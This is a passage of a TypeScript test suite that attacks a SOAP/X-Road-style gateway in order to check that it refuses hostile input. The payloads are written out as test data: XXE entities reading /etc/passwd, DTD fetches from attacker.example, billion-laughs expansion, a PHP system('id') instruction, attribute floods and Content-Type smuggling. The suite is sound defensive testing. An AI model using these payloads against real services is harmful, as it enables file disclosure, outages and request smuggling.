/**
 * Hostile review of the SOAP protocol (PR-MESS 4.0 beside REST on one exchange pipeline). Each test is an attack that
 * fails if it works: a client of the consumer gateway, a hostile member holding its own gateway's key (it signs what it
 * likes and sends it to the provider side), a man in the middle between the gateways, a backend answering what it
 * likes, and an unauthenticated caller. Most run on the in-memory ecosystem; what crosses processes (the fronts, a
 * Node backend reading its headers as Node does) runs once against the local ecosystem.
 */
import { createHash } from 'node:crypto';
import { headerValue, headerValues, singleHeaders, type HttpRequest, type HttpResponse } from '../../lambdas/core/kernel/http';
import { requestHash, signedHeaderNames } from '../../lambdas/core/kernel/hashing';
import { manifestHeaders, signManifest, type RequestManifest } from '../../lambdas/core/trust/manifest';
import { handleConsumerRequest } from '../../lambdas/core/exchange/consumer-side';
import { handleProviderRequest } from '../../lambdas/core/exchange/provider-side';
import { readSoapRequest } from '../../lambdas/core/exchange/protocols/soap/envelope';
import { multipartBody } from '../../lambdas/core/exchange/protocols/soap/mime';
import { parseXml, type XmlElement } from '../../lambdas/core/exchange/protocols/soap/xml';
import { answerSoapRequest } from '../../lib/local/sample-soap-service';
import { CLIENT, DEFAULT_POLICY, PROVIDER_URL, startMemoryEcosystem, type MemoryEcosystem } from '../support/memory-ecosystem';
import { startTestEcosystem, TAX_CLIENT, type TestEcosystem } from '../e2e/fixture';
import { rawCall } from '../support/raw-call';
import { hostileMember } from './hostile-member';

const SOAP_ENV = 'http://schemas.xmlsoap.org/soap/envelope/';
const XROAD_NS = 'http://x-road.eu/xsd/xroad.xsd';
const ID_NS = 'http://x-road.eu/xsd/identifiers';
const REPR_NS = 'http://x-road.eu/xsd/representation.xsd';
const PROD_NS = 'http://population-registry.dev/producer';
const GET_PERSON = 'TEST/GOV/1001/registry/getPerson';
const GET_SECRET = 'TEST/GOV/1001/registry/getSecret';
const OTHER_AGENCY = 'TEST/GOV/1001/registry';

/** persons (REST), getPerson (SOAP v1, the client may call it), getSecret (SOAP v1, the client may not). */
const POLICY = {
  services: [
    ...(DEFAULT_POLICY.services ?? []),
    { subsystem: 'registry', code: 'getPerson', backendUrl: 'https://backend.test/soap', type: 'soap' as const, version: 'v1' },
    { subsystem: 'registry', code: 'getSecret', backendUrl: 'https://backend.test/secret', type: 'soap' as const, version: 'v1' },
  ],
  accessRights: [...DEFAULT_POLICY.accessRights, { subsystem: 'registry', service: 'getPerson', subject: CLIENT, method: '*', path: '**' }],
};

interface Envelope {
  id?: string;
  client?: string;
  /** `MEMBER` writes the client without its subsystem. */
  clientType?: 'SUBSYSTEM' | 'MEMBER';
  service?: string;
  version?: string | null;
  userId?: string;
  issue?: string;
  representedParty?: string;
  /** More header fields, after the X-Road ones. */
  extra?: string;
  /** The Body's content (default: `<prod:CODE><id>123</id></prod:CODE>`). */
  body?: string;
  /** Text before the root element (after nothing: no XML declaration). */
  prolog?: string;
  /** More children of the Envelope after the Body. */
  after?: string;
}

/** A request as SoapUI writes one, every field overridable. */
function envelope(options: Envelope = {}): string {
  const { id = 'soap-attack', client = CLIENT, clientType = 'SUBSYSTEM', service = GET_PERSON, version = 'v1' } = options;
  const [ci, cc, cm, cs] = client.split('/');
  const [si, sc, sm, ss, code] = service.split('/');
  return [
    options.prolog ?? '',
    `<soapenv:Envelope xmlns:soapenv="${SOAP_ENV}" xmlns:xro="${XROAD_NS}" xmlns:iden="${ID_NS}" xmlns:repr="${REPR_NS}" xmlns:prod="${PROD_NS}">`,
    '  <soapenv:Header>',
    '    <xro:protocolVersion>4.0</xro:protocolVersion>',
    `    <xro:id>${id}</xro:id>`,
    ...(options.userId === undefined ? [] : [`    <xro:userId>${options.userId}</xro:userId>`]),
    ...(options.issue === undefined ? [] : [`    <xro:issue>${options.issue}</xro:issue>`]),
    ...(options.representedParty === undefined
      ? []
      : [
          `    <repr:representedParty><repr:partyClass>${options.representedParty.split('/')[0]}</repr:partyClass><repr:partyCode>${options.representedParty.split('/')[1]}</repr:partyCode></repr:representedParty>`,
        ]),
    `    <xro:client iden:objectType="${clientType}"><iden:xRoadInstance>${ci}</iden:xRoadInstance><iden:memberClass>${cc}</iden:memberClass><iden:memberCode>${cm}</iden:memberCode>${clientType === 'SUBSYSTEM' ? `<iden:subsystemCode>${cs}</iden:subsystemCode>` : ''}</xro:client>`,
    `    <xro:service iden:objectType="SERVICE"><iden:xRoadInstance>${si}</iden:xRoadInstance><iden:memberClass>${sc}</iden:memberClass><iden:memberCode>${sm}</iden:memberCode><iden:subsystemCode>${ss}</iden:subsystemCode><iden:serviceCode>${code}</iden:serviceCode>${version === null ? '' : `<iden:serviceVersion>${version}</iden:serviceVersion>`}</xro:service>`,
    options.extra ?? '',
    '  </soapenv:Header>',
    `  <soapenv:Body>${options.body ?? `<prod:${code}><id>123</id></prod:${code}>`}</soapenv:Body>`,
    options.after ?? '',
    '</soapenv:Envelope>',
  ].join('\n');
}

const TEXT_XML = 'text/xml; charset=utf-8';
/** The error type a response states: `X-Road-Error`, and the Fault's code must say the same. */
function faultOf(response: HttpResponse): string | undefined {
  const type = headerValue(response.headers, 'x-road-error');
  const code = /<faultcode>([^<]*)<\/faultcode>/.exec(response.body.toString('utf8'))?.[1];
  expect(code).toBe(type);
  return type;
}
const isSigned = (response: HttpResponse) => headerValue(response.headers, 'x-sild-manifest') !== undefined;

/** Every element of a document, depth first. */
const allElements = (root: XmlElement): XmlElement[] => [root, ...root.children.flatMap(allElements)];

describe('SOAP attacks on the in-memory ecosystem', () => {
  let eco: MemoryEcosystem;

  beforeEach(async () => {
    eco = await startMemoryEcosystem({ policy: POLICY });
    eco.backend(async (request) => {
      const answer = answerSoapRequest(headerValue(request.headers, 'content-type'), request.body);
      return { status: answer.status, headers: { 'content-type': [answer.contentType] }, body: answer.body };
    });
  });

  /** A client of the consumer gateway POSTs `body` to its root. */
  const send = (body: string | Buffer, contentType = TEXT_XML) => eco.call('/', { method: 'POST', headers: { 'content-type': contentType }, body });
  const sentToProvider = () => eco.http.sent.filter((request) => request.url.startsWith(PROVIDER_URL));
  /** Nothing left the consumer gateway, reached the backend or was logged on either side. */
  const nothingHappened = () => {
    expect(sentToProvider()).toEqual([]);
    expect(eco.backendCalls).toEqual([]);
    expect(eco.consumer.log.records.size).toBe(0);
    expect(eco.provider.log.records.size).toBe(0);
  };
  /** Sends `body` and measures the refusal; returns its error type. */
  const refusedQuickly = async (body: string | Buffer, contentType = TEXT_XML) => {
    const started = performance.now();
    const response = await send(body, contentType);
    const elapsed = performance.now() - started;
    expect(response.status).toBe(200); // a layer fault reaches a SOAP client with HTTP 200, as X-Road answers it
    expect(elapsed).toBeLessThan(500);
    return faultOf(response);
  };

  test('control: an honest request goes through and reaches the backend once', async () => {
    const response = await send(envelope({ id: 'honest' }));
    expect(response.status).toBe(200);
    expect(response.body.toString('utf8')).toContain('<givenName>');
    expect(eco.backendCalls).toHaveLength(1);
  });

  describe('1. the XML parser', () => {
    const XXE = '<!DOCTYPE soapenv:Envelope [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n';

    test.each([
      ['an external entity (XXE) in a header field', envelope({ prolog: XXE, id: '&x;' })],
      ['an external entity (XXE) in the body', envelope({ prolog: XXE, body: '<prod:getPerson><id>&x;</id></prod:getPerson>' })],
      [
        'billion laughs (nested entity expansion)',
        envelope({
          prolog: `<!DOCTYPE soapenv:Envelope [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 9 }, (_, i) => `<!ENTITY ${String.fromCharCode(98 + i)} "${`&${String.fromCharCode(97 + i)};`.repeat(10)}">`).join('')}]>\n`,
          body: '<prod:getPerson><id>&j;</id></prod:getPerson>',
        }),
      ],
      [
        'an external parameter entity',
        envelope({ prolog: '<!DOCTYPE soapenv:Envelope [<!ENTITY % p SYSTEM "http://attacker.example/evil.dtd"> %p;]>\n' }),
      ],
      ['an external DTD', envelope({ prolog: '<!DOCTYPE soapenv:Envelope SYSTEM "http://attacker.example/evil.dtd">\n' })],
      ['10,000 levels of nesting from the root', `${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}`],
      [
        '10,000 levels of nesting inside the Body only',
        envelope({ body: `<prod:getPerson>${'<x>'.repeat(10_000)}${'</x>'.repeat(10_000)}</prod:getPerson>` }),
      ],
      [
        '10,000 levels of nesting inside a header field',
        envelope({ extra: `<ext:x xmlns:ext="urn:x">${'<y>'.repeat(10_000)}${'</y>'.repeat(10_000)}</ext:x>` }),
      ],
      ['a processing instruction', envelope({ prolog: '<?xml version="1.0"?><?xml-stylesheet href="http://attacker.example/x.xsl"?>' })],
      ['a processing instruction in the Body', envelope({ body: '<prod:getPerson><?php system("id"); ?><id>123</id></prod:getPerson>' })],
      ['an HTML entity (&nbsp;)', envelope({ userId: 'EE1&nbsp;2' })],
      ['an undeclared entity in the body', envelope({ body: '<prod:getPerson><id>&x;</id></prod:getPerson>' })],
      ['invalid UTF-8', Buffer.concat([Buffer.from(envelope().replace('123', 'X')), Buffer.from([0xc3, 0x28])])],
      ['an overlong UTF-8 encoding of "<"', Buffer.concat([Buffer.from(envelope()), Buffer.from([0xc0, 0xbc])])],
      ['a UTF-16 body (with BOM)', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(envelope(), 'utf16le')])],
      ['a UTF-16 body (without BOM)', Buffer.from(envelope(), 'utf16le')],
      ['a UTF-16 declaration over UTF-8 bytes', envelope({ prolog: '<?xml version="1.0" encoding="UTF-16"?>' })],
      ['a NUL character', envelope({ userId: 'EE1\u00002' })],
      ['a second root element after the Envelope', `${envelope()}<soapenv:Envelope xmlns:soapenv="${SOAP_ENV}"/>`],
      ['a SOAP 1.2 envelope', envelope().replace(SOAP_ENV, 'http://www.w3.org/2003/05/soap-envelope')],
    ])('%s is refused with Client.InvalidSoap, quickly, before anything is logged or forwarded', async (_name, body) => {
      expect(await refusedQuickly(body)).toBe('Client.InvalidSoap');
      nothingHappened();
    });

    test.each([
      ['charset=utf-16 in the Content-Type', 'text/xml; charset=utf-16'],
      ['a SOAP 1.2 Content-Type', 'application/soap+xml; charset=utf-8'],
      ['a bare application/xop+xml', 'application/xop+xml; type="text/xml"'],
      ['no type at all', ''],
    ])('%s is refused with Client.InvalidContentType', async (_name, contentType) => {
      expect(await refusedQuickly(envelope(), contentType)).toBe('Client.InvalidContentType');
      nothingHappened();
    });

    // sax 1.6 checks each attribute against every earlier one of its element (`attribList.indexOf`): quadratic. 80,000
    // attributes (790 KB) took 7 s, a 6 MB body of them several minutes of a Lambda: the parser bounds them per element.
    test.each([
      [
        '200,000 attributes on the Body element',
        envelope({ body: `<prod:getPerson${Array.from({ length: 200_000 }, (_, i) => ` a${i}=""`).join('')}><id>123</id></prod:getPerson>` }),
      ],
      [
        '200,000 attributes on a header field',
        envelope({ extra: `<ext:x xmlns:ext="urn:x"${Array.from({ length: 200_000 }, (_, i) => ` a${i}=""`).join('')}/>` }),
      ],
      [
        '200,000 namespace declarations on the Envelope',
        envelope().replace('<soapenv:Envelope ', `<soapenv:Envelope ${Array.from({ length: 200_000 }, (_, i) => `xmlns:n${i}="u" `).join('')}`),
      ],
      [
        'many elements, each with 3,000 attributes',
        envelope({
          body: `<prod:getPerson>${`<z${Array.from({ length: 3_000 }, (_, i) => ` a${i}=""`).join('')}/>`.repeat(60)}<id>123</id></prod:getPerson>`,
        }),
      ],
    ])('%s is refused with Client.InvalidSoap, quickly (no quadratic parse)', async (_name, body) => {
      expect(await refusedQuickly(body)).toBe('Client.InvalidSoap');
      nothingHappened();
    });

    test('a huge attribute (4 MB) is read in linear time: refused as the wrong body, never hanging the gateway', async () => {
      const started = performance.now();
      const response = await send(envelope({ body: `<prod:getPerson a="${'A'.repeat(4_000_000)}"><id>123</id></prod:getPerson>` }));
      expect(performance.now() - started).toBeLessThan(2_000);
      // Well-formed and within the body limit: it is the service's to refuse (the sample service answers it).
      expect(response.status).toBe(200);
    });

    test('an entity reference written as a character reference is text, never markup', async () => {
      // `&#60;` is '<' as data: the header field's value is `<x>`, which the id check (free text) accepts as text only.
      const response = await send(envelope({ id: 'ref&#60;xro:client&#62;' }));
      expect(response.status).toBe(200);
      expect(eco.backendCalls).toHaveLength(1);
      const manifest = JSON.parse(Buffer.from(headerValue(sentToProvider()[0].headers, 'x-sild-manifest')!, 'base64').toString('utf8'));
      expect(manifest.xRoadId).toBe('ref<xro:client>');
    });
  });

  describe('2. the Body element against the service code', () => {
    test.each([
      ['another operation', '<prod:getSecret><id>1</id></prod:getSecret>'],
      ['a longer name (getPersonX)', '<prod:getPersonX><id>1</id></prod:getPersonX>'],
      ['a shorter name (getPerso)', '<prod:getPerso><id>1</id></prod:getPerso>'],
      ['the name in another case', '<prod:getperson><id>1</id></prod:getperson>'],
      ['a prefix bound to the X-Road namespace', '<xro:listMethods/>'],
    ])('%s is refused with Client.InconsistentHeaders', async (_name, body) => {
      expect(await refusedQuickly(envelope({ body }))).toBe('Client.InconsistentHeaders');
      nothingHappened();
    });

    test('the same local name in another namespace passes: X-Road checks the local name only, the service checks its namespace', async () => {
      // Decision: PR-MESS names the Body element by the service code; the namespace is the service's own (its WSDL).
      // The sample service refuses it with its own fault, which the client receives unchanged.
      const response = await send(envelope({ body: '<other:getPerson xmlns:other="urn:other"><id>123</id></other:getPerson>' }));
      expect(response.status).toBe(500);
      expect(headerValue(response.headers, 'x-road-error')).toBeUndefined();
      expect(response.body.toString('utf8')).toContain('No operation getPerson in namespace urn:other');
    });

    test("a prefix bound to the X-Road namespace cannot pass off the Body element as a header: getPerson in the X-Road namespace is the service's to refuse", async () => {
      const response = await send(envelope({ body: '<xro:getPerson><id>123</id></xro:getPerson>' }));
      expect(headerValue(response.headers, 'x-road-error')).toBeUndefined();
      expect(response.body.toString('utf8')).toContain(`No operation getPerson in namespace ${XROAD_NS}`);
    });

    test('comments, white space and processing-free text before the Body element do not hide it', async () => {
      const response = await send(envelope({ body: '\n  <!-- <prod:getSecret/> -->\n  <prod:getPerson><id>123</id></prod:getPerson>' }));
      expect(response.status).toBe(200);
      expect(eco.backendCalls).toHaveLength(1);
      // Text beside the element is not an element; non-white-space text is still only text (the service's to read).
      expect(await refusedQuickly(envelope({ id: 'two', body: '<prod:getPerson/><prod:getSecret/>' }))).toBe('Client.InvalidBody');
    });

    test.each([
      ['a second Body', { after: '<soapenv:Body><prod:getSecret/></soapenv:Body>' }, 'Client.InvalidSoap'],
      ['a second Header', { after: `<soapenv:Header><xro:client iden:objectType="SUBSYSTEM"/></soapenv:Header>` }, 'Client.InvalidSoap'],
      ['an empty Body', { body: '' }, 'Client.InvalidBody'],
      ['a Body of text only', { body: 'getPerson' }, 'Client.InvalidBody'],
    ])('%s is refused', async (_name, options, type) => {
      expect(await refusedQuickly(envelope(options))).toBe(type);
      nothingHappened();
    });

    test("a Body before the Header is refused (SOAP 1.1 §4.2: the Header is the Envelope's first child)", async () => {
      const swapped = envelope().replace(/(<soapenv:Header>[\s\S]*<\/soapenv:Header>)\s*(<soapenv:Body>[\s\S]*<\/soapenv:Body>)/, '$2\n$1');
      expect(swapped.indexOf('<soapenv:Body>')).toBeLessThan(swapped.indexOf('<soapenv:Header>'));
      expect(await refusedQuickly(swapped)).toBe('Client.InvalidSoap');
      nothingHappened();
    });
  });

  describe('3. the provider acts on what is signed (a hostile member with its own gateway key)', () => {
    interface Forged {
      /** What the manifest states besides the defaults (client CLIENT, getPerson v1, POST /). */
      manifest?: Partial<RequestManifest>;
      contentType?: string[];
      /** The X-Road-Client and X-Road-Id header lines (default: the manifest's). */
      identity?: { client?: string; xRoadId?: string };
    }
    /** The consumer member signs `soap` with its own gateway's key and sends it straight to the provider side. */
    async function forge(soap: string | Buffer, forged: Forged = {}): Promise<HttpResponse> {
      const body = Buffer.from(soap);
      const xRoadId = forged.manifest?.xRoadId ?? 'soap-attack'; // the envelope's default id
      const client = forged.manifest?.client ?? CLIENT;
      const headers = {
        'content-type': forged.contentType ?? [TEXT_XML],
        'x-road-client': [forged.identity?.client ?? client],
        'x-road-id': [forged.identity?.xRoadId ?? xRoadId],
      };
      const names = signedHeaderNames(headers);
      const signed = await signManifest(await eco.consumer.deps.messageSigner.session(), (signer): RequestManifest => ({
        type: 'sild.request.v1',
        client,
        service: GET_PERSON,
        serviceVersion: 'v1',
        xRoadId,
        requestId: `forged-request-${Math.random().toString(36).slice(2)}`,
        method: 'POST',
        target: '/',
        headers: names,
        requestHash: requestHash('POST', '/', headers, names, body),
        createdAt: new Date(eco.clock.now()).toISOString(),
        signer,
        ...forged.manifest,
      }));
      const request: HttpRequest = {
        method: 'POST',
        rawPath: '/',
        rawQuery: '',
        headers: { ...headers, ...singleHeaders(manifestHeaders(signed)) },
        body,
      };
      return handleProviderRequest(request, eco.provider.deps);
    }
    const providerLoggedBody = () => eco.provider.log.all().filter((record) => record.body !== undefined && record.direction === 'request');

    test('control: a forged request that states what it signs goes through (so each refusal below is the check, not the forge)', async () => {
      const response = await forge(envelope({ id: 'forged-ok' }), { manifest: { xRoadId: 'forged-ok' } });
      expect(response.status).toBe(200);
      expect(eco.backendCalls).toHaveLength(1);
    });

    test('a manifest for getPerson (allowed) with a header naming getSecret (not allowed) is refused before the backend', async () => {
      const response = await forge(envelope({ service: GET_SECRET }));
      expect(faultOf(response)).toBe('Server.ServerProxy.InvalidSignatureValue');
      expect(isSigned(response)).toBe(false);
      expect(eco.backendCalls).toEqual([]);
      expect(eco.provider.log.records.size).toBe(0);
    });

    test.each<[string, Envelope, Partial<RequestManifest>]>([
      ['the header names another agency’s subsystem as client', { client: OTHER_AGENCY }, {}],
      ['the header names the client as a MEMBER', { clientType: 'MEMBER' }, {}],
      ['the header id differs', { id: 'header-id' }, { xRoadId: 'manifest-id' }],
      ['the header has a userId the manifest has not', { userId: 'EE38001010000' }, {}],
      ['the header userId differs', { userId: 'EE38001010000' }, { userId: 'EE47001010000' }],
      ['the manifest has a userId the header has not', {}, { userId: 'EE47001010000' }],
      ['the header issue differs', { issue: 'case-1' }, { issue: 'case-2' }],
      ['the header has a representedParty the manifest has not', { representedParty: 'COM/12345' }, {}],
      ['the header representedParty differs', { representedParty: 'COM/12345' }, { representedParty: 'COM/54321' }],
      ['the header service version differs', { version: 'v2' }, {}],
      ['the header states no service version', { version: null }, {}],
      ['the header service is in another instance', { service: 'OTHER/GOV/1001/registry/getPerson' }, {}],
      ['the header service is of another member', { service: 'TEST/GOV/1002/client/getPerson' }, {}],
    ])('%s: refused (InvalidSignatureValue) before the backend, nothing stored', async (_name, header, manifest) => {
      const xRoadId = manifest.xRoadId ?? header.id ?? 'soap-attack';
      const response = await forge(envelope(header), { manifest: { xRoadId, ...manifest } });
      expect(faultOf(response)).toBe('Server.ServerProxy.InvalidSignatureValue');
      expect(isSigned(response)).toBe(false);
      expect(eco.backendCalls).toEqual([]);
      expect(eco.provider.log.records.size).toBe(0);
    });

    test('a header with two service elements is refused before the backend', async () => {
      const response = await forge(envelope({ extra: envelope({ service: GET_SECRET }).match(/<xro:service[\s\S]*?<\/xro:service>/)![0] }));
      expect(faultOf(response)).toBe('Client.DuplicateHeaderField');
      expect(eco.backendCalls).toEqual([]);
      expect(providerLoggedBody()).toEqual([]);
    });

    test('a service in the header and a manifest both in another instance: the provider does not offer it', async () => {
      const response = await forge(envelope({ service: 'OTHER/GOV/1001/registry/getPerson' }), {
        manifest: { service: 'OTHER/GOV/1001/registry/getPerson' },
      });
      expect(faultOf(response)).toBe('Server.ServerProxy.UnknownService');
      expect(eco.backendCalls).toEqual([]);
      expect(providerLoggedBody()).toEqual([]);
    });

    test('a manifest and header both naming getSecret: no right, refused, its body not stored', async () => {
      const response = await forge(envelope({ service: GET_SECRET }), { manifest: { service: GET_SECRET } });
      expect(faultOf(response)).toBe('Server.ServerProxy.AccessDenied');
      expect(eco.backendCalls).toEqual([]);
      expect(providerLoggedBody()).toEqual([]);
    });

    test('a SOAP message signed as a REST call (method GET, or a target other than /) is refused', async () => {
      const get = await forge(envelope(), { manifest: { method: 'GET' } });
      expect(faultOf(get)).toBe('Server.ServerProxy.InvalidSignatureValue');
      const target = await forge(envelope(), { manifest: { target: '/r1/TEST/GOV/1001/registry/getPerson' } });
      expect(faultOf(target)).toBe('Server.ServerProxy.InvalidSignatureValue');
      expect(eco.backendCalls).toEqual([]);
    });

    test('a client of the consumer gateway cannot name another agency’s subsystem in its header', async () => {
      expect(await refusedQuickly(envelope({ client: OTHER_AGENCY }))).toBe('Client.InvalidClientIdentifier');
      expect(await refusedQuickly(envelope({ clientType: 'MEMBER', client: 'TEST/GOV/1002' }))).toBe('Client.InvalidClientIdentifier');
      nothingHappened();
    });

    // A Content-Type stated twice: the gateway read the last, a Node backend (and most servlet containers) the first. The
    // gateway checked a text/xml envelope for the hostile member's own client; the backend read a multipart body
    // whose root part names another agency's subsystem. Both sides now refuse a repeated Content-Type.
    test('two Content-Type lines cannot make the backend read another envelope than the one checked', async () => {
      const victim = envelope({ id: 'smuggled', client: OTHER_AGENCY });
      const outer = envelope({
        id: 'smuggled',
        body: `<prod:getPerson><id>123</id><note><![CDATA[\r\n--b\r\nContent-Type: text/xml\r\n\r\n${victim}\r\n--b--\r\n]]></note></prod:getPerson>`,
      });
      const firstRead: string[] = [];
      eco.backend(async (request) => {
        const first = headerValues(request.headers, 'content-type')![0];
        firstRead.push(readSoapRequest(first, request.body).header.client.subsystemCode!);
        return { status: 500, headers: { 'content-type': [TEXT_XML] }, body: Buffer.from('') };
      });
      const contentType = ['multipart/related; type="text/xml"; boundary=b', TEXT_XML];
      const forged = await forge(outer, { manifest: { xRoadId: 'smuggled' }, contentType });
      expect(faultOf(forged)).toBe('Client.InvalidContentType');
      const viaConsumer = await handleConsumerRequest(
        { method: 'POST', rawPath: '/', rawQuery: '', headers: { 'content-type': contentType, 'x-road-client': [CLIENT] }, body: Buffer.from(outer) },
        eco.consumer.deps,
      );
      expect(faultOf(viaConsumer)).toBe('Client.InvalidContentType');
      expect(firstRead).toEqual([]);
    });
  });

  describe('4. a man in the middle between the gateways', () => {
    const ATTACHMENT = Buffer.from('%PDF-1.7 attachment bytes \x00\xff');
    function multipartRequest() {
      return multipartBody(
        [
          { headers: { 'Content-Type': TEXT_XML, 'Content-ID': '<soap@client>' }, body: Buffer.from(envelope({ id: 'mitm' })) },
          { headers: { 'Content-Type': 'application/pdf', 'Content-ID': '<doc@client>' }, body: ATTACHMENT },
        ],
        'client-boundary',
      );
    }
    /** Puts `tamper` between the gateways, on the request or the answer. */
    function between(tamper: { request?: (request: HttpRequest) => HttpRequest; answer?: (answer: HttpResponse) => HttpResponse }) {
      eco.http.route(PROVIDER_URL, async (request) => {
        const answer = await handleProviderRequest(tamper.request ? tamper.request(request) : request, eco.provider.deps);
        return tamper.answer ? tamper.answer(answer) : answer;
      });
    }
    const flip = (body: Buffer, at: number) => {
      const changed = Buffer.from(body);
      changed[at] ^= 0x01;
      return changed;
    };

    test('control: a multipart request and its multipart answer go through untouched', async () => {
      const { contentType, body } = multipartRequest();
      const response = await send(body, contentType);
      expect(response.status).toBe(200);
      expect(response.body.includes(ATTACHMENT)).toBe(true);
    });

    test.each<[string, (body: Buffer) => number]>([
      ['one byte of the attachment', (body) => body.indexOf(ATTACHMENT) + 3],
      ['one byte of a boundary delimiter', (body) => body.lastIndexOf('--client-boundary') + 4],
      ['one byte of a part header', (body) => body.indexOf('<doc@client>') + 2],
      ['one byte of the SOAP part', (body) => body.indexOf('123')],
    ])('%s of a signed multipart request: refused (InvalidSignatureValue), never delivered', async (_name, where) => {
      between({ request: (request) => ({ ...request, body: flip(request.body, where(request.body)) }) });
      const { contentType, body } = multipartRequest();
      const response = await send(body, contentType);
      expect(faultOf(response)).toBe('Server.ClientProxy.InvalidSignatureValue');
      expect(eco.backendCalls).toEqual([]);
      expect(eco.provider.log.records.size).toBe(0);
    });

    test('the boundary in the Content-Type header of a signed multipart request: refused', async () => {
      between({
        request: (request) => ({
          ...request,
          headers: {
            ...request.headers,
            'content-type': [headerValue(request.headers, 'content-type')!.replace('client-boundary', 'client-boundarz')],
          },
          body: Buffer.from(request.body.toString('latin1').replaceAll('client-boundary', 'client-boundarz'), 'latin1'),
        }),
      });
      const { contentType, body } = multipartRequest();
      expect(faultOf(await send(body, contentType))).toBe('Server.ClientProxy.InvalidSignatureValue');
      expect(eco.backendCalls).toEqual([]);
    });

    test.each<[string, (body: Buffer) => number]>([
      ['one byte of the attachment', (body) => body.indexOf(ATTACHMENT) + 3],
      ['one byte of a boundary delimiter', (body) => body.lastIndexOf('--population-registry-answer') + 4],
      ['one byte of the requestHash', (body) => body.indexOf('algorithmId') + 140],
    ])('%s of a signed multipart answer: refused (InvalidSignatureValue), never delivered', async (_name, where) => {
      between({ answer: (answer) => ({ ...answer, body: flip(answer.body, where(answer.body)) }) });
      const { contentType, body } = multipartRequest();
      const response = await send(body, contentType);
      expect(faultOf(response)).toBe('Server.ClientProxy.InvalidSignatureValue');
      expect(response.body.includes(ATTACHMENT)).toBe(false);
      expect(response.body.toString('utf8')).not.toContain('<givenName>');
    });
  });

  describe('5. the requestHash and the answer’s header (a backend answering what it likes)', () => {
    const FORGED = 'Zm9yZ2VkIGJ5IHRoZSBiYWNrZW5k';
    /** The backend answers with the request's envelope, its Body replaced and `edit` applied. */
    function backendAnswers(edit: (soap: string) => string, status = 200, contentType = TEXT_XML) {
      eco.backend(async (request) => {
        const soap = request.body
          .toString('utf8')
          .replace(/<prod:getPerson>[\s\S]*<\/prod:getPerson>/, '<prod:getPersonResponse><givenName>Mari</givenName></prod:getPersonResponse>');
        return { status, headers: { 'content-type': [contentType] }, body: Buffer.from(edit(soap)) };
      });
    }
    const beforeHeaderEnd = (field: string) => (soap: string) => soap.replace('</soapenv:Header>', `${field}\n  </soapenv:Header>`);

    test.each<[string, (soap: string) => string]>([
      ['its own requestHash', beforeHeaderEnd(`<xro:requestHash algorithmId="http://www.w3.org/2001/04/xmlenc#sha512">${FORGED}</xro:requestHash>`)],
      ['two requestHashes', beforeHeaderEnd(`<xro:requestHash>${FORGED}</xro:requestHash><xro:requestHash>${FORGED}</xro:requestHash>`)],
      [
        'a requestHash first in the header',
        (soap) => soap.replace('<soapenv:Header>', `<soapenv:Header><xro:requestHash>${FORGED}</xro:requestHash>`),
      ],
      ['a requestHash under another prefix', beforeHeaderEnd(`<h:requestHash xmlns:h="${XROAD_NS}">${FORGED}</h:requestHash>`)],
      ['a requestHash in the default namespace', beforeHeaderEnd(`<requestHash xmlns="${XROAD_NS}">${FORGED}</requestHash>`)],
      ['a requestHash in a comment', beforeHeaderEnd(`<!-- <xro:requestHash>${FORGED}</xro:requestHash> -->`)],
      ['a requestHash in CDATA', beforeHeaderEnd(`<ext:note xmlns:ext="urn:x"><![CDATA[<xro:requestHash>${FORGED}</xro:requestHash>]]></ext:note>`)],
    ])('a backend answering with %s: the client receives exactly one requestHash, the true one', async (_name, edit) => {
      backendAnswers(edit);
      const request = envelope({ id: 'hash' });
      const response = await send(request);
      expect(response.status).toBe(200);
      const hashes = allElements(parseXml(response.body)).filter((element) => element.namespace === XROAD_NS && element.localName === 'requestHash');
      expect(hashes.map((element) => element.text)).toEqual([createHash('sha512').update(request).digest('base64')]);
    });

    // Remains (low severity: the backend is the provider's own, which signs what it says anyway): the gateway replaces
    // the requestHash fields of the Header and appends its own as the last field (as X-Road writes it after the
    // fields, `request-hash.ts`), so one the backend nests in an earlier header block of its own comes first in document
    // order. A client that reads the Header's `requestHash` field reads the true one; one that takes the first
    // `requestHash` anywhere (`getElementsByTagNameNS(…)[0]`) reads the backend's.
    test.failing('a backend hiding a requestHash inside a header block of its own: the true one is still the first the client finds', async () => {
      backendAnswers(beforeHeaderEnd(`<ext:meta xmlns:ext="urn:x"><xro:requestHash>${FORGED}</xro:requestHash></ext:meta>`));
      const request = envelope({ id: 'nested' });
      const response = await send(request);
      const hashes = allElements(parseXml(response.body)).filter((element) => element.namespace === XROAD_NS && element.localName === 'requestHash');
      // A client reading the first requestHash in document order (`getElementsByTagNameNS(…)[0]`) gets the true one.
      expect(hashes[0]?.text).toBe(createHash('sha512').update(request).digest('base64'));
    });

    test('a backend answer with its Body before its Header (a forged requestHash first in document order) is the service failing', async () => {
      backendAnswers((soap) =>
        soap
          .replace(/(<soapenv:Header>[\s\S]*<\/soapenv:Header>)\s*(<soapenv:Body>[\s\S]*<\/soapenv:Body>)/, '$2\n$1')
          .replace('<givenName>', `<xro:requestHash>${FORGED}</xro:requestHash><givenName>`),
      );
      const response = await send(envelope({ id: 'swapped' }));
      expect(faultOf(response)).toBe('Server.ServerProxy.ServiceFailed');
      expect(response.body.toString('utf8')).not.toContain(FORGED);
    });

    test('a backend answer with two Content-Type lines (the client reading the first sees another message) is the service failing', async () => {
      const request = envelope({ id: 'two-types' });
      eco.backend(async () => {
        const inner = request.replace('</soapenv:Header>', `<xro:requestHash>${FORGED}</xro:requestHash></soapenv:Header>`);
        const outer = request.replace(
          '<prod:getPerson><id>123</id></prod:getPerson>',
          `<prod:getPersonResponse><x><![CDATA[\r\n--b\r\nContent-Type: text/xml\r\n\r\n${inner}\r\n--b--\r\n]]></x></prod:getPersonResponse>`,
        );
        return { status: 200, headers: { 'content-type': ['multipart/related; type="text/xml"; boundary=b', TEXT_XML] }, body: Buffer.from(outer) };
      });
      const response = await send(request);
      expect(faultOf(response)).toBe('Server.ServerProxy.ServiceFailed');
      expect(response.body.toString('utf8')).not.toContain(FORGED);
    });

    test.each<[string, (soap: string) => string]>([
      ['another client', (soap) => soap.replace('<iden:subsystemCode>client</iden:subsystemCode>', '<iden:subsystemCode>other</iden:subsystemCode>')],
      ['another id', (soap) => soap.replace('<xro:id>hdr</xro:id>', '<xro:id>other</xro:id>')],
      // A code the answer's element still starts with (getPersonResponse), so the header comparison is what refuses it.
